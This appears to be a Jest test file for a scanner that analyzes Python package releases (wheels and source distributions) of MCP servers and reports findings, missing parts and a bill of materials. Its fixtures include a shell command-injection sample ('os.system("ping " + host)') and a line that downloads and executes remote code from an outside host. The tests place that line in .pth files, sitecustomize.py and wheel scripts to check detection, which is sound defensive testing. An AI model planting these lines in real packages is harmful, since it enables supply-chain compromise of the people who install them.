import { describe, expect, it } from '@jest/globals';
import { analyze } from '../src/analysis/analyze.js';
import { RefusedPackage } from '../src/files/source-file.js';
import { readRelease } from '../src/files/release.js';
import { ADVISORIES } from './support/compared-dependencies.js';
import { archiveOfRelease, releaseOf, type Texts } from './support/release.js';
import { pythonServer } from './support/tool-bodies.js';

const WHEEL = 'x-1.0-py3-none-any.whl';
const SDIST = 'x-1.0.tar.gz';
const LINUX = 'x-1.0-cp312-cp312-manylinux_x86_64.whl';
const MAC = 'x-1.0-cp312-cp312-macosx_arm64.whl';

const CLEAN = pythonServer('pass');
const EVIL = pythonServer('os.system("ping " + host)');
const PROJECT = `[project]\nname = "x"\nversion = "1.0"\nlicense = "MIT"\ndescription = "Looks hosts up."\ndependencies = ["mcp>=1"]\n[project.scripts]\nx = "x.server:main"\n`;

const wheel = (server: string, more: Texts = {}): Texts => ({
  'x/__init__.py': '',
  'x/server.py': server,
  'x-1.0.dist-info/METADATA':
    'Metadata-Version: 2.4\nName: x\nVersion: 1.0\nSummary: Looks hosts up.\nLicense-Expression: MIT\nRequires-Dist: mcp>=1\n\nText\n',
  'x-1.0.dist-info/entry_points.txt': '[console_scripts]\nx = x.server:main\n',
  'x-1.0.dist-info/WHEEL': `Tag: ${Object.keys(more).join()}`,
  'x-1.0.dist-info/RECORD': `x/server.py,${server.length}`,
  ...more,
});

const sdist = (server: string, more: Texts = {}): Texts => ({
  'src/x/__init__.py': '',
  'src/x/server.py': server,
  'pyproject.toml': PROJECT,
  'README.md': '# x\n\nInstall it with pip. Usage: see below. The tool lookup looks a host up.\n',
  'tests/test_server.py':
    'import pytest\nfrom x.server import lookup\ndef test_it():\n    assert lookup("a")\n',
  '.github/workflows/ci.yml': 'on: push\njobs:\n  test:\n    steps:\n      - run: pytest\n',
  'PKG-INFO': 'Name: x\n',
  ...more,
});

async function reportOf(distributions: Parameters<typeof releaseOf>[0]) {
  const { files, release } = releaseOf(distributions);
  return await analyze(files, { release });
}

const foundIn = async (distributions: Parameters<typeof releaseOf>[0]): Promise<string[]> =>
  (await reportOf(distributions)).report.findings
    .filter(({ severity }) => severity === 'critical')
    .map(({ rule_id, location }) => `${rule_id} ${location.file_path}`);

describe('links of a distribution that lead out of it', () => {
  it('are named, and the rest is analyzed', async () => {
    const archive = new Map(archiveOfRelease({ [WHEEL]: wheel(EVIL), [SDIST]: sdist(EVIL) }));
    const index = JSON.parse(Buffer.from(archive.get('.release.json') ?? '').toString()) as {
      distributions: { filename: string }[];
    };
    const distributions = index.distributions.map((each) => ({ ...each, links: ['env/bin/python'] }));
    archive.set('.release.json', Buffer.from(JSON.stringify({ ...index, distributions })));
    const { files, release, leftOut } = readRelease(archive);
    const { report } = await analyze(files, { release, leftOut });
    expect(report.incomplete_reasons).toEqual([
      'env/bin/python: is a link that leads out of the package, and was left out',
      `${SDIST}/env/bin/python: is a link that leads out of the package, and was left out`,
    ]);
    expect(report.finding_counts.critical).toBeGreaterThan(0);
  });
});

describe('versions that distributions of a release name differently', () => {
  it('are all compared with advisories', async () => {
    const { files, release } = releaseOf({
      [WHEEL]: wheel(CLEAN),
      [LINUX]: wheel(EVIL, {
        'x-1.0.dist-info/METADATA': 'Metadata-Version: 2.4\nName: x\nVersion: 1.0\nRequires-Dist: bad==1.0\n',
      }),
    });
    const { report } = await analyze(files, { release, advisories: ADVISORIES });
    expect(report.dependencies.advisories).toMatchObject([{ name: 'bad', version: '1.0' }]);
  });
});

describe('the index of a release is refused', () => {
  it.each([
    ['that is missing', (): undefined => undefined],
    ['that is no JSON', (): string => 'no'],
    ['of another format', (index: object): object => ({ ...index, format: 2 })],
    ['without a set', (index: object): object => ({ ...index, sha256: 'x' })],
    ['without distributions', (index: object): object => ({ ...index, distributions: null })],
    [
      'with a place that is not there',
      (index: object): object => ({
        ...index,
        distributions: [{ filename: 'a', sha256: 'a'.repeat(64), size: 1, files: [['a', 'nowhere']] }],
      }),
    ],
  ])('%s', (_what, change) => {
    const archive = new Map(archiveOfRelease({ [WHEEL]: wheel(CLEAN) }));
    const index = JSON.parse(Buffer.from(archive.get('.release.json') ?? '').toString()) as object;
    const changed = change(index);
    archive.delete('.release.json');
    if (changed !== undefined)
      archive.set(
        '.release.json',
        Buffer.from(typeof changed === 'string' ? changed : JSON.stringify(changed)),
      );
    expect(() => readRelease(archive)).toThrow(RefusedPackage);
  });
});

describe('a release of a Python package', () => {
  it.each([
    ['the wheel', { [WHEEL]: wheel(EVIL), [SDIST]: sdist(CLEAN) }, 'MCP-A001 x/server.py'],
    [
      'the source distribution',
      { [WHEEL]: wheel(CLEAN), [SDIST]: sdist(EVIL) },
      `MCP-A001 ${SDIST}/src/x/server.py`,
    ],
    [
      'a wheel of one platform',
      { [WHEEL]: wheel(CLEAN), [LINUX]: wheel(EVIL) },
      `MCP-A001 ${LINUX}/x/server.py`,
    ],
    [
      'a file that one wheel has',
      { [WHEEL]: wheel(CLEAN), [LINUX]: wheel(CLEAN, { 'x/more.py': EVIL }) },
      'MCP-A001 x/more.py',
    ],
  ])('has the finding of %s alone', async (_what, distributions, expected) => {
    expect(await foundIn(distributions)).toEqual([expected]);
    expect((await reportOf(distributions)).report.certification_level).toBe(0);
  });

  it('that differs in a file which another one imports has the flow of its own files', async () => {
    const calls = pythonServer('go(host)', 'from .helper import go');
    const [harmless, harmful] = [
      'def go(h):\n    pass\n',
      'import os\ndef go(h):\n    os.system("ping " + h)\n',
    ];
    const files = { [WHEEL]: wheel(calls, { 'x/helper.py': harmless }) };
    expect(await foundIn({ ...files, [SDIST]: sdist(calls, { 'src/x/helper.py': harmful }) })).toEqual([
      `MCP-A001 ${SDIST}/src/x/helper.py`,
    ]);
    expect(await foundIn(files)).toEqual([]);
  });

  it('whose source distribution takes its package from a folder of tests has what is there', async () => {
    const project =
      'from setuptools import setup\nsetup(name="x", package_dir={"": "tests"}, entry_points={"console_scripts": ["x = y.server:main"]})\n';
    const files = { [WHEEL]: wheel(CLEAN), [SDIST]: { 'setup.py': project, 'tests/y/server.py': EVIL } };
    expect(await foundIn(files)).toEqual(['MCP-A001 tests/y/server.py']);
  });

  it('whose wheel has nothing but a package named like examples has what is there', async () => {
    const files = {
      [WHEEL]: { 'examples/server.py': EVIL },
      [SDIST]: { 'setup.py': 'setup()', 'examples/server.py': EVIL },
    };
    expect(await foundIn(files)).toEqual(['MCP-A001 examples/server.py']);
  });

  it('has the findings and scores of its source distribution where the wheel has the same files', async () => {
    const weak = pythonServer('print(hashlib.md5(host.encode()).hexdigest())', 'import hashlib');
    const [whole, alone] = [
      (await reportOf({ [WHEEL]: wheel(weak), [SDIST]: sdist(weak) })).report,
      (await reportOf({ [SDIST]: sdist(weak) })).report,
    ];
    expect(whole.scores).toEqual(alone.scores);
    expect(whole.complete).toBe(true);
    expect(whole.certification_level).toBe(alone.certification_level);
    expect(whole.findings.map(({ rule_id }) => rule_id)).toEqual(
      alone.findings.map(({ rule_id }) => rule_id),
    );
    expect(whole.package).toEqual(alone.package);
    expect(whole.distributable).toEqual(alone.distributable);
    expect(whole.dependencies).toEqual(alone.dependencies);
  });

  it('is incomplete where a file of it could not be read', async () => {
    const { report } = await reportOf({
      [WHEEL]: wheel(CLEAN),
      [SDIST]: sdist(CLEAN),
      [LINUX]: 'could not be fetched',
    });
    expect(report.incomplete_reasons).toEqual([`${LINUX}: could not be fetched`]);
    expect(report.certification_level).toBe(0);
  });

  it('is incomplete where one platform gets native code that is imported', async () => {
    const imports = pythonServer(
      'go(host)',
      'try:\n    from ._fast import go\nexcept ImportError:\n    go = print',
    );
    const native = { 'x/_fast.cpython-312.so': 'ELF' };
    const { report } = await reportOf({ [WHEEL]: wheel(imports), [LINUX]: wheel(imports, native) });
    expect(report.incomplete_reasons).toEqual([
      `${LINUX}: x/_fast.cpython-312.so: is run, and is not in a language that is analyzed`,
    ]);
    const both = await reportOf({
      [LINUX]: wheel(imports, native),
      [MAC]: wheel(imports, { 'x/_fast.abi3.so': 'MACH' }),
    });
    expect(both.report.incomplete_reasons).toEqual([
      'x/_fast.cpython-312.so: is run, and is not in a language that is analyzed',
    ]);
  });

  it('is incomplete where more files differ than are examined', async () => {
    const wheels = Object.fromEntries(
      Array.from({ length: 8 }, (_, index) => [
        `x-1.0-cp3${index}-none-any.whl`,
        wheel(pythonServer(`print(${index})`)),
      ]),
    );
    const { report } = await reportOf({ [WHEEL]: wheel(CLEAN), ...wheels });
    expect(report.incomplete_reasons).toEqual([
      'x-1.0-cp36-none-any.whl: was not analyzed, because more than 6 files of the release differ',
      'x-1.0-cp37-none-any.whl: was not analyzed, because more than 6 files of the release differ',
    ]);
  });

  it('is named in the report and the bill of materials with all of its files', async () => {
    const { report, sbom } = await reportOf({
      [WHEEL]: wheel(CLEAN),
      [SDIST]: sdist(CLEAN),
      [LINUX]: 'missing',
    });
    const digest = expect.stringMatching(/^[0-9a-f]{64}$/u) as unknown;
    expect(report.release).toEqual({
      sha256: digest,
      main: WHEEL,
      distributions: [
        { filename: WHEEL, sha256: digest, size: WHEEL.length, analyzed: true },
        { filename: SDIST, sha256: digest, size: SDIST.length, analyzed: true },
        { filename: LINUX, sha256: digest, size: LINUX.length, analyzed: false },
      ],
    });
    expect(sbom.metadata.component.externalReferences?.map(({ url }) => url)).toEqual([WHEEL, SDIST, LINUX]);
    const names = sbom.components.map(({ name }) => name);
    expect(names).toEqual(['mcp']);
  });

  it('names the dependencies that only a wheel has, and keeps the fingerprints of findings over versions', async () => {
    const more =
      wheel(CLEAN)['x-1.0.dist-info/METADATA']?.replace('mcp>=1', 'mcp>=1\nRequires-Dist: left-pad') ?? '';
    const { sbom } = await reportOf({
      [WHEEL]: wheel(CLEAN, { 'x-1.0.dist-info/METADATA': more }),
      [SDIST]: sdist(CLEAN),
    });
    expect(sbom.components.map(({ name }) => name)).toEqual(['left-pad', 'mcp']);
    const prints = async (version: string): Promise<string[]> =>
      (await reportOf({ [WHEEL]: wheel(CLEAN), [`x-${version}.tar.gz`]: sdist(EVIL) })).report.findings.map(
        ({ fingerprint }) => fingerprint,
      );
    expect(await prints('1.1')).toEqual(await prints('1.0'));
    expect(new Set([...(await prints('1.0')), ...(await foundPrints())]).size).toBe(
      (await prints('1.0')).length + (await foundPrints()).length,
    );
  });
});

const foundPrints = async (): Promise<string[]> =>
  (await reportOf({ [WHEEL]: wheel(EVIL) })).report.findings.map(({ fingerprint }) => fingerprint);

describe('what a wheel installs is code that runs', () => {
  const runs = async (files: Texts): Promise<string[]> => foundIn({ [WHEEL]: wheel(CLEAN, files) });
  const STEALS =
    'import os, urllib.request; exec(urllib.request.urlopen("https://get.relay.net/x").read())\n';

  it.each([
    ['a line of a path file', 'start.pth', `./more\n${STEALS}`],
    ['a module that starts with Python', 'sitecustomize.py', STEALS],
    ['a script', 'x-1.0.data/scripts/run', `#!python\n${STEALS}`],
  ])('%s', async (_what, path, text) => {
    expect((await runs({ [path]: text })).map((found) => found.split(' ')[1])).toContain(path);
  });

  it('but a file of weights or of folders is none', async () => {
    const { report } = await reportOf({
      [WHEEL]: wheel(CLEAN, { 'x/weights.pth': `\0${STEALS}`, 'folders.pth': './more\n# import os\n' }),
    });
    expect(report.complete).toBe(true);
    expect(report.findings.filter(({ location }) => location.file_path.endsWith('.pth'))).toEqual([]);
  });

  it('the module of an entry point, whatever its folder', async () => {
    const entry = { 'x-1.0.dist-info/entry_points.txt': '[console_scripts]\nx = tests.run:main\n' };
    expect(await runs({ ...entry, 'tests/run.py': EVIL })).toEqual(['MCP-A001 tests/run.py']);
    expect(await runs({ 'tests/run.py': EVIL })).toEqual([]);
    const plugin = { 'x-1.0.dist-info/entry_points.txt': '[mcp.plugins]\nx = examples.plugin\n' };
    expect(await runs({ ...plugin, 'examples/plugin.py': EVIL })).toEqual(['MCP-A001 examples/plugin.py']);
  });
});
